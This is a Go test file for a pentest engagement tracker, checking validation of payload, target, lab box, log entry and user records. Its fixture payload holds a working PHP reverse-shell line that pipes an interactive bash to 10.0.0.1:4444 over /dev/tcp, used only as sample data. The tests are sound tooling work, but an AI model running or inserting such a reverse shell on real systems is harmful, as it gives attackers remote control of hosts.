package engagement

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/clearmind/redsheet/session"
)

func validPayload() Payload {
	return Payload{
		Name:     "PHP reverse shell",
		Category: CategoryRevShell,
		Platform: PlatformWeb,
		Severity: SeverityHigh,
		Content:  `<?php exec("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'");`,
	}
}

func TestPayloadValidate(t *testing.T) {
	tests := []struct {
		name    string
		mutate  func(*Payload)
		wantErr bool
	}{
		{"valid", func(p *Payload) {}, false},
		{"empty name", func(p *Payload) { p.Name = "" }, true},
		{"name too long", func(p *Payload) { p.Name = strings.Repeat("x", MaxNameLength+1) }, true},
		{"control char in name", func(p *Payload) { p.Name = "bad\x00name" }, true},
		{"unknown category", func(p *Payload) { p.Category = "phishing" }, true},
		{"unknown platform", func(p *Payload) { p.Platform = "solaris" }, true},
		{"unknown severity", func(p *Payload) { p.Severity = "ultra" }, true},
		{"content too long", func(p *Payload) { p.Content = strings.Repeat("A", MaxContentLength+1) }, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := validPayload()
			tt.mutate(&p)
			err := p.Validate()
			if tt.wantErr {
				assert.ErrorIs(t, err, ErrValidation)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestTargetValidate(t *testing.T) {
	target := Target{Name: "dc01", Host: "10.10.10.5", Status: TargetScanning, Severity: SeverityMedium}
	assert.NoError(t, target.Validate())

	target.Status = "compromised"
	assert.ErrorIs(t, target.Validate(), ErrValidation)

	target.Status = TargetOwned
	target.Host = ""
	assert.ErrorIs(t, target.Validate(), ErrValidation)
}

func TestBoxValidate(t *testing.T) {
	box := Box{Name: "Lame", OS: OSLinux, Platform: BoxHTB, Difficulty: DifficultyEasy, Status: BoxRooted}
	assert.NoError(t, box.Validate())

	box.Difficulty = "nightmare"
	assert.ErrorIs(t, box.Validate(), ErrValidation)
}

func TestLogEntryValidate(t *testing.T) {
	entry := LogEntry{Actor: "alice", Action: "payload_created", Level: LevelInfo}
	assert.NoError(t, entry.Validate())

	entry.Level = "debug"
	assert.ErrorIs(t, entry.Validate(), ErrValidation)

	entry.Level = LevelSecurity
	entry.Action = ""
	assert.ErrorIs(t, entry.Validate(), ErrValidation)
}

func TestUserValidate(t *testing.T) {
	tests := []struct {
		name     string
		username string
		role     session.Role
		wantErr  bool
	}{
		{"valid", "alice", session.RolePentester, false},
		{"too short", "al", session.RolePentester, true},
		{"uppercase not canonical", "Alice", session.RoleAdmin, true},
		{"whitespace", "a lice", session.RoleAdmin, true},
		{"bad role", "alice", "root", true},
		{"guest allowed", "observer", session.RoleGuest, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			u := User{Username: tt.username, Role: tt.role}
			err := u.Validate()
			if tt.wantErr {
				assert.ErrorIs(t, err, ErrValidation)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestValidationErrorsMatchSentinel(t *testing.T) {
	err := Payload{}.Validate()
	assert.True(t, errors.Is(err, ErrValidation))
	assert.Contains(t, err.Error(), "payload name")
}

func TestNormalizeUsername(t *testing.T) {
	assert.Equal(t, "alice", NormalizeUsername("Alice"))
	assert.Equal(t, "file", NormalizeUsername("ﬁle"))
}
